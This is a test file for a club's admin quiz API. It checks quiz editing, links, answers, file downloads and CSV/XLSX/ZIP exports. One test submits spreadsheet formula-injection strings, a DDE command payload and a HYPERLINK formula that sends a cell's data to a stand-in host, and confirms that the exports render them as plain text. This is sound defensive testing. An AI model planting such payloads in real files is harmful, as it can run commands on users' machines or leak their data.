import { QUIZ_ADMIN_CODE } from '@club/domain/admin/quiz.schemas';
import { QUIZ_CODE } from '@club/domain/quiz/quiz.rules';
import { and, count, eq, inArray } from 'drizzle-orm';
import Papa from 'papaparse';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { auditLog } from '../../db/schema/audit.js';
import { files } from '../../db/schema/files.js';
import { quizItems, quizLinks, quizzes } from '../../db/schema/quiz.js';
import { call, createSession, createTestApp, createUser } from '../../test/helpers.js';
import { unzip } from '../../test/zip-reader.js';
import { insertAnswers, insertResponse } from './quiz.repository.js';

describe('office quizzes (/api/admin/quizzes)', async () => {
  const { app, ctx, clock } = await createTestApp();
  clock.set('2026-05-01T10:00:00Z');
  const admin = await createUser(ctx, { isGod: true });
  const token = await createSession(ctx, admin.id);
  const member = await createUser(ctx);
  const memberToken = await createSession(ctx, member.id);

  const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#cc0066' } })
    .png()
    .toBuffer();
  const pngDataUrl = `data:image/png;base64,${png.toString('base64')}`;

  const body = {
    title_es: 'Encuesta de fin de temporada',
    title_eus: 'Denboraldi amaierako inkesta',
    intro_es: 'Cuéntanos qué tal',
    items: [
      { type: 'text', required: true, label_es: 'Nombre', label_eus: 'Izena', label_en: 'Name', placeholder_es: 'Tu nombre' },
      { type: 'textarea', label_es: 'Comentarios', label_eus: 'Iruzkinak' },
      { type: 'date', label_es: 'Fecha de nacimiento', label_eus: 'Jaiotze-data' },
      { type: 'checkbox', label_es: 'Acepto las normas', label_eus: 'Arauak onartzen ditut' },
      {
        type: 'radio',
        required: true,
        label_es: 'Piscina',
        label_eus: 'Igerilekua',
        children: [
          { value: 'fadura', label_es: 'Fadura', label_eus: 'Fadura' },
          { value: 'gobela', label_es: 'Gobela (exterior)', label_eus: 'Gobela (kanpoan)' },
        ],
      },
      { type: 'file', label_es: 'Justificante', label_eus: 'Egiaztagiria' },
    ],
  };
  const admin$ = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) =>
    call(app, { method, url: `/api/admin/quizzes${url}`, token, ...(payload ? { payload } : {}) });
  const raw = (url: string) =>
    app.inject({ method: 'GET', url: `/api/admin/quizzes${url}`, headers: { authorization: `Bearer ${token}` } });
  const audits = async (action: string) => (await ctx.db.select({ n: count() }).from(auditLog).where(eq(auditLog.action, action)))[0]!.n;
  const digest = async () => ({
    quizzes: await ctx.db.select().from(quizzes),
    items: await ctx.db.select().from(quizItems),
    links: await ctx.db.select().from(quizLinks),
    audit: (await ctx.db.select({ n: count() }).from(auditLog))[0]!.n,
  });

  /** Answers the quiz by its public link, as the form does. */
  async function answer(linkId: string, values: Record<string, unknown>) {
    const loaded = await call(app, { method: 'GET', url: `/api/v2/quiz/quiz/?link_id=${linkId}` });
    expect(loaded.body.success).toBe(1);
    const quiz = loaded.body.data.quiz.map((item: { id: number; type: string }) => ({ ...item, inputdata: values[item.type] ?? null }));
    return call(app, { method: 'POST', url: '/api/v2/quiz/save/', payload: { link_id: linkId, quiz } });
  }

  /** The links made below, used by the later tests. */
  const links: Record<string, string> = {};
  const created = await admin$('POST', '', body);
  const quizId: number = created.body.data.id;

  it('creates a quiz with every item type, in order, and lists it with its counts', async () => {
    expect(created).toMatchObject({ status: 200, body: { success: 1, data: { id: expect.any(Number) } } });
    const { body: detail } = await admin$('GET', `/${quizId}`);
    expect(detail.data).toMatchObject({
      title_es: body.title_es,
      title_eus: body.title_eus,
      title_en: '',
      intro_es: 'Cuéntanos qué tal',
      answers: 0,
    });
    expect(detail.data.items.map((i: { type: string }) => i.type)).toEqual(['text', 'textarea', 'date', 'checkbox', 'radio', 'file']);
    expect(detail.data.items[0]).toMatchObject({ required: true, label_en: 'Name', placeholder_es: 'Tu nombre', answers: 0 });
    expect(detail.data.items[4].children).toEqual([
      { value: 'fadura', label_es: 'Fadura', label_eus: 'Fadura', label_en: '' },
      { value: 'gobela', label_es: 'Gobela (exterior)', label_eus: 'Gobela (kanpoan)', label_en: '' },
    ]);
    const list = await admin$('GET', '');
    expect(list.body.data).toMatchObject({ total: 1, page: 1, page_size: 50 });
    expect(list.body.data.rows[0]).toMatchObject({ id: quizId, items: 6, links: 0, open_links: 0, answers: 0 });
    expect(await audits('quiz.create')).toBe(1);
  });

  it('refuses bad input with 400 and changes nothing', async () => {
    const before = await digest();
    const radio = body.items[4]!;
    const bad: [string, object][] = [
      ['no items', { ...body, items: [] }],
      ['no Spanish title', { ...body, title_es: ' ' }],
      ['an unknown type', { ...body, items: [{ type: 'slider', label_es: 'x' }] }],
      ['a radio with one option', { ...body, items: [{ ...radio, children: [radio.children![0]] }] }],
      ['repeated option values', { ...body, items: [{ ...radio, children: [radio.children![0], radio.children![0]] }] }],
      ['options on a text item', { ...body, items: [{ ...body.items[0], children: radio.children }] }],
      ['an item without a label', { ...body, items: [{ type: 'text', label_es: '' }] }],
    ];
    for (const [what, payload] of bad) {
      const res = await admin$('POST', '', payload);
      expect({ what, status: res.status, success: res.body.success }).toEqual({ what, status: 400, success: 0 });
      expect(res.body.ext).toBeTruthy();
    }
    expect(await digest()).toEqual(before);
    // An item id of another quiz, and ids that repeat.
    const other = (await admin$('POST', '', { title_es: 'Otra', items: [{ type: 'text', label_es: 'x' }] })).body.data.id;
    const otherItem = (await admin$('GET', `/${other}`)).body.data.items[0].id;
    const afterOther = await digest();
    const foreign = await admin$('PUT', `/${quizId}`, { ...body, items: [{ id: otherItem, type: 'text', label_es: 'x' }] });
    expect(foreign).toMatchObject({ status: 400, body: { success: 0, ext: expect.stringContaining('items/0/id') } });
    const twice = await admin$('PUT', `/${other}`, {
      title_es: 'Otra',
      items: [
        { id: otherItem, type: 'text', label_es: 'x' },
        { id: otherItem, type: 'text', label_es: 'y' },
      ],
    });
    expect(twice.status).toBe(400);
    expect(await digest()).toEqual(afterOther);
    expect(await admin$('PUT', '/999999', body)).toMatchObject({ status: 404 });
    expect(await admin$('POST', `/${quizId}/links`, { kind: 'forever' })).toMatchObject({ status: 400 });
    expect(await admin$('POST', `/${quizId}/links`, { kind: 'general', expires_at: 'mañana' })).toMatchObject({ status: 400 });
    expect(await admin$('POST', `/${quizId}/links`, { kind: 'general', expires_at: '2026-13-01T00:00:00Z' })).toMatchObject({
      status: 400,
    });
    expect(await digest()).toEqual(afterOther);
    await admin$('DELETE', `/${other}`);
  });

  it('makes general and one-person links with an expiry; revoking closes the public form', async () => {
    const past = await admin$('POST', `/${quizId}/links`, { kind: 'general', expires_at: '2026-04-30T22:00:00Z' });
    expect(past.body).toMatchObject({ success: 0, code: QUIZ_ADMIN_CODE.expiryPast });
    const general = await admin$('POST', `/${quizId}/links`, { kind: 'general', note: 'Todo el club', expires_at: '2026-06-01T21:59:59Z' });
    const single = await admin$('POST', `/${quizId}/links`, { kind: 'single', note: 'Para Ane' });
    expect(general.body).toMatchObject({ success: 1, data: { id: expect.stringMatching(/^[A-Za-z0-9_-]{16}$/), quiz_id: quizId } });
    const { body: detail } = await admin$('GET', `/${quizId}`);
    const byId = new Map(detail.data.links.map((l: { id: string }) => [l.id, l]));
    expect(byId.get(general.body.data.id)).toMatchObject({
      max_answers: null,
      note: 'Todo el club',
      expires_at: '2026-06-01T21:59:59.000Z',
      is_open: true,
    });
    expect(byId.get(single.body.data.id)).toMatchObject({ max_answers: 1, answer_count: 0, expires_at: null, is_open: true });
    const pub = await call(app, { method: 'GET', url: `/api/v2/quiz/quiz/?link_id=${single.body.data.id}` });
    expect(pub.body.data).toMatchObject({ single_use: true, title_es: body.title_es });

    // A throw-away link: revoked, the public form says invalid link; revoking again changes nothing.
    const spare = (await admin$('POST', `/${quizId}/links`, { kind: 'single', note: 'Sobra' })).body.data.id;
    expect((await admin$('POST', `/${quizId}/links/${spare}/revoke`)).body).toMatchObject({ success: 1 });
    expect((await call(app, { method: 'GET', url: `/api/v2/quiz/quiz/?link_id=${spare}` })).body).toMatchObject({
      success: 0,
      code: QUIZ_CODE.invalidLink,
    });
    const auditsBefore = await audits('quiz_link.revoke');
    expect((await admin$('POST', `/${quizId}/links/${spare}/revoke`)).body).toMatchObject({ success: 0, code: QUIZ_ADMIN_CODE.linkClosed });
    expect(await audits('quiz_link.revoke')).toBe(auditsBefore);
    // Reopened with a new expiry; a link of another quiz id is 404.
    const reopened = await admin$('PUT', `/${quizId}/links/${spare}`, { note: 'Sobra', expires_at: '2026-05-02T00:00:00+02:00' });
    expect(reopened.body).toMatchObject({ success: 1 });
    expect((await call(app, { method: 'GET', url: `/api/v2/quiz/quiz/?link_id=${spare}` })).body.data.expires_at).toBe(
      '2026-05-01T22:00:00.000Z',
    );
    expect(await admin$('POST', `/999999/links/${spare}/revoke`)).toMatchObject({ status: 404 });
    expect(await audits('quiz_link.create')).toBe(3);
    expect(await audits('quiz_link.update')).toBe(1);

    // The answers, the downloads and the exports below use these links.
    links.general = general.body.data.id;
    links.single = single.body.data.id;
  });
  it('shows the answers with their file, downloads the file and exports CSV, XLSX and a ZIP of the files', async () => {
    const values = {
      text: 'Ane Zubizarreta',
      textarea: '=HYPERLINK("http://x")',
      date: '2010-03-04',
      checkbox: true,
      radio: 'gobela',
      file: { name: 'justificante pago.png', content: pngDataUrl },
    };
    expect((await answer(links.single!, values)).body).toMatchObject({ success: 1 });
    clock.advance(60_000);
    expect((await answer(links.general!, { text: 'Jon', radio: 'fadura' })).body).toMatchObject({ success: 1 });

    const page = await admin$('GET', `/${quizId}/responses`);
    expect(page.body.data).toMatchObject({ total: 2, page: 1, page_size: 50 });
    const [jon, ane] = page.body.data.rows;
    expect(jon).toMatchObject({ link_id: links.general, link_note: 'Todo el club' });
    expect(ane).toMatchObject({ link_id: links.single, link_note: 'Para Ane' });
    const { body: detail } = await admin$('GET', `/${quizId}`);
    const itemOf = (type: string) => detail.data.items.find((i: { type: string }) => i.type === type).id;
    const answerOf = (row: { answers: { item_id: number }[] }, type: string) => row.answers.find((a) => a.item_id === itemOf(type));
    expect(answerOf(ane, 'text')).toMatchObject({ text: 'Ane Zubizarreta', checked: null, file: null });
    expect(answerOf(ane, 'checkbox')).toMatchObject({ checked: true });
    expect(answerOf(jon, 'checkbox')).toMatchObject({ checked: false });
    const file = answerOf(ane, 'file') as { item_id: number; file: { id: number; filename: string; mime_type: string; size: number } };
    expect(file.file).toMatchObject({ filename: 'justificante pago.png', mime_type: 'image/png', size: png.length });
    expect(detail.data.items.map((i: { answers: number }) => i.answers)).toEqual([2, 1, 1, 2, 2, 1]);
    expect(detail.data.answers).toBe(2);

    const download = await raw(`/${quizId}/files/${file.file.id}`);
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toBe('image/png');
    expect(download.headers['content-disposition']).toBe(
      `attachment; filename="justificante pago.png"; filename*=UTF-8''justificante%20pago.png`,
    );
    expect(download.rawPayload.equals(png)).toBe(true);
    // Only answer files of that quiz: another file is 404, to a member 403.
    const [stranger] = await ctx.db
      .insert(files)
      .values({ purpose: 'avatar', filename: 'x.png', mimeType: 'image/png', size: png.length, content: png, isPublic: 0 })
      .returning();
    expect((await raw(`/${quizId}/files/${stranger!.id}`)).statusCode).toBe(404);
    expect((await call(app, { method: 'GET', url: `/api/admin/quizzes/${quizId}/files/${file.file.id}`, token: memberToken })).status).toBe(
      403,
    );

    const csv = await raw(`/${quizId}/answers.csv`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toContain(`filename="cuestionario-${quizId}.csv"`);
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe(
      'Respuesta,Fecha,Enlace,Nota del enlace,Nombre,Comentarios,Fecha de nacimiento,Acepto las normas,Piscina,Justificante',
    );
    // Oldest first, Madrid time, the option's text, the file's path in the ZIP, a formula defused.
    expect(lines[1]).toBe(
      `${ane.id},2026-05-01 12:00,${links.single},Para Ane,Ane Zubizarreta,"'=HYPERLINK(""http://x"")",2010-03-04,Sí,Gobela (exterior),${ane.id}/6-justificante pago.png`,
    );
    expect(lines[2]).toBe(`${jon.id},2026-05-01 12:01,${links.general},Todo el club,Jon,,,No,Fadura,`);
    const basque = await raw(`/${quizId}/answers.csv?lang=eus`);
    expect(basque.body).toContain('Erantzuna,Data,Esteka,Estekaren oharra,Izena,Iruzkinak');
    expect(basque.body).toContain('Bai,Gobela (kanpoan)');
    expect((await raw(`/${quizId}/answers.csv?lang=fr`)).statusCode).toBe(400);

    const xlsx = await raw(`/${quizId}/answers.xlsx`);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.rawPayload.subarray(0, 2).toString()).toBe('PK');
    const sheet = await unzip(xlsx.rawPayload);
    const strings = [...sheet.entries()]
      .filter(([n]) => n.startsWith('xl/'))
      .map(([, b]) => b.toString('utf8'))
      .join('\n');
    expect(strings).toContain('Ane Zubizarreta');
    expect(strings).toContain('=HYPERLINK(');
    expect(strings).not.toContain('<f>');

    const zip = await raw(`/${quizId}/files.zip`);
    expect(zip.headers['content-type']).toBe('application/zip');
    const entries = await unzip(zip.rawPayload);
    expect([...entries.keys()]).toEqual([`${ane.id}/6-justificante pago.png`]);
    expect(entries.get(`${ane.id}/6-justificante pago.png`)!.equals(png)).toBe(true);

    // The one-person link took its answer: it shows closed.
    const after = (await admin$('GET', `/${quizId}`)).body.data.links.find((l: { id: string }) => l.id === links.single);
    expect(after).toMatchObject({ answer_count: 1, is_open: false });
  });

  it('keeps answered items: no removal, no type change, chosen options stay; the rest may change', async () => {
    const { body: detail } = await admin$('GET', `/${quizId}`);
    const items = detail.data.items.map(({ answers: _a, ...i }: { answers: number }) => i);
    const [text, textarea, date, checkbox, radio, file] = items;
    const put = (changed: unknown[]) => admin$('PUT', `/${quizId}`, { ...body, items: changed });
    const before = await digest();

    expect((await put([textarea, date, checkbox, radio, file])).body).toMatchObject({ success: 0, code: QUIZ_ADMIN_CODE.itemHasAnswers });
    expect((await put([{ ...text, type: 'textarea' }, textarea, date, checkbox, radio, file])).body).toMatchObject({
      success: 0,
      code: QUIZ_ADMIN_CODE.typeHasAnswers,
    });
    const withoutGobela = { ...radio, children: [radio.children[0], { value: 'getxo', label_es: 'Getxo' }] };
    expect((await put([text, textarea, date, checkbox, withoutGobela, file])).body).toMatchObject({
      success: 0,
      code: QUIZ_ADMIN_CODE.optionHasAnswers,
    });
    expect(await digest()).toEqual(before);

    // Reordered, relabelled, an option added, a new item, "required" changed: all allowed.
    const relabelled = { ...radio, label_es: 'Piscina habitual', children: [...radio.children, { value: 'getxo', label_es: 'Getxo' }] };
    const added = { type: 'text', label_es: 'Teléfono' };
    const ok = await put([relabelled, text, { ...textarea, required: true }, date, checkbox, file, added]);
    expect(ok.body).toMatchObject({ success: 1, data: { id: quizId } });
    const edited = (await admin$('GET', `/${quizId}`)).body.data.items;
    expect(edited.map((i: { id: number }) => i.id).slice(0, 6)).toEqual([radio.id, text.id, textarea.id, date.id, checkbox.id, file.id]);
    expect(edited[0]).toMatchObject({ label_es: 'Piscina habitual', answers: 2 });
    expect(edited[6]).toMatchObject({ label_es: 'Teléfono', answers: 0 });
    const [row] = await ctx.db.select().from(auditLog).where(eq(auditLog.action, 'quiz.update'));
    expect(row!.before).toMatchObject({ items: expect.arrayContaining([expect.objectContaining({ labelEs: 'Piscina' })]) });
    expect(row!.after).toMatchObject({ items: expect.arrayContaining([expect.objectContaining({ labelEs: 'Piscina habitual' })]) });

    // An item nobody answered may go.
    const removed = await put(edited.slice(0, 6).map(({ answers: _a, ...i }: { answers: number }) => i));
    expect(removed.body).toMatchObject({ success: 1 });
    expect((await admin$('GET', `/${quizId}`)).body.data.items).toHaveLength(6);
  });

  it('pages the answers by 50, newest first', async () => {
    const paged = (await admin$('POST', '', { title_es: 'Muchas respuestas', items: [{ type: 'text', label_es: 'Nombre' }] })).body.data.id;
    const link = (await admin$('POST', `/${paged}/links`, { kind: 'general' })).body.data.id;
    const [item] = (await admin$('GET', `/${paged}`)).body.data.items;
    for (let i = 1; i <= 55; i++) {
      const responseId = await insertResponse(ctx.db, paged, link, new Date(Date.UTC(2026, 4, 1, 10, i)));
      await insertAnswers(ctx.db, responseId, [{ itemId: item.id, valueText: `Persona ${i}`, valueBool: null, fileId: null }]);
    }
    const first = (await admin$('GET', `/${paged}/responses`)).body.data;
    expect(first).toMatchObject({ total: 55, page: 1, page_size: 50 });
    expect(first.rows).toHaveLength(50);
    expect(first.rows[0].answers[0].text).toBe('Persona 55');
    const second = (await admin$('GET', `/${paged}/responses?page=2`)).body.data;
    expect(second.rows.map((r: { answers: { text: string }[] }) => r.answers[0]!.text)).toEqual([
      'Persona 5',
      'Persona 4',
      'Persona 3',
      'Persona 2',
      'Persona 1',
    ]);
    expect((await admin$('GET', `/${paged}/responses?page=0`)).status).toBe(400);
    expect((await admin$('GET', '/999999/responses')).status).toBe(404);
    const csv = await raw(`/${paged}/answers.csv`);
    expect(csv.body.trimEnd().split('\r\n')).toHaveLength(56);
    await admin$('DELETE', `/${paged}`);
  });

  it('exports answers typed like formulas as text: no CSV cell starts with = + - @ unquoted, line breaks included; XLSX strings stay strings', async () => {
    const created = await admin$('POST', '', { ...body, title_es: 'Fórmulas' });
    const id: number = created.body.data.id;
    const link: string = (await admin$('POST', `/${id}/links`, { kind: 'general' })).body.data.id;
    const hostile = ['=1+2', '+34 600 000 000', '-2+3', '@SUM(A1:A9)', "=cmd|' /C calc'!A0"];
    const note = '=HYPERLINK("http://x.example/?"&C2,"Ver")\nGracias';
    for (const text of hostile) expect((await answer(link, { text, textarea: note, radio: 'fadura' })).body).toMatchObject({ success: 1 });

    const csv = await raw(`/${id}/answers.csv`);
    expect(csv.statusCode).toBe(200);
    const cells = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(cells).toHaveLength(hostile.length + 1);
    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Each answer comes back whole behind the apostrophe that makes it text.
    expect(cells.slice(1).map((row) => [row[4], row[5]])).toEqual(hostile.map((text) => [`'${text}`, `'${note}`]));

    // The workbook: every text a shared string (t="s"), no formula element anywhere.
    const sheet = await unzip((await raw(`/${id}/answers.xlsx`)).rawPayload);
    const rows = sheet.get('xl/worksheets/sheet1.xml')!.toString('utf8');
    expect(rows).not.toContain('<f>');
    expect([...rows.matchAll(/<c [^>]*\bt="([^"]+)"/g)].map((m) => m[1]).filter((t) => t !== 's')).toEqual([]);
    const strings = sheet.get('xl/sharedStrings.xml')!.toString('utf8');
    for (const text of [...hostile, note]) expect(strings).toContain(`<t>${text.replaceAll('&', '&amp;')}</t>`);
    await admin$('DELETE', `/${id}`);
  });

  it('draws link ids that never start like a spreadsheet formula, so the exports show them as they are', async () => {
    const created = await admin$('POST', '', { ...body, title_es: 'Enlaces' });
    const ids: string[] = [];
    // With 2 of 64 first characters excluded, 40 draws would meet one about 7 times in 10.
    for (let i = 0; i < 40; i += 1) ids.push((await admin$('POST', `/${created.body.data.id}/links`, { kind: 'general' })).body.data.id);
    expect(ids.filter((id) => !/^[A-Za-z0-9][A-Za-z0-9_-]{15}$/.test(id))).toEqual([]);
    expect(new Set(ids).size).toBe(40);
  });

  it('deletes a quiz with its links, answers and answer files', async () => {
    const fileIds = (await admin$('GET', `/${quizId}/responses`)).body.data.rows.flatMap(
      (r: { answers: { file: { id: number } | null }[] }) => r.answers.flatMap((a) => (a.file ? [a.file.id] : [])),
    );
    expect(fileIds).toHaveLength(1);
    expect((await admin$('DELETE', `/${quizId}`)).body).toMatchObject({ success: 1, data: { id: quizId } });
    expect(await ctx.db.select().from(files).where(inArray(files.id, fileIds))).toEqual([]);
    expect((await call(app, { method: 'GET', url: `/api/v2/quiz/quiz/?link_id=${links.general}` })).status).toBe(404);
    expect(await admin$('GET', `/${quizId}`)).toMatchObject({ status: 404 });
    expect(await admin$('DELETE', `/${quizId}`)).toMatchObject({ status: 404 });
    const [row] = await ctx.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'quiz.delete'), eq(auditLog.entityId, String(quizId))));
    expect(row!.before).toMatchObject({ quiz: { id: quizId }, answers: 2 });
    expect(row!.after).toBeNull();
  });
});
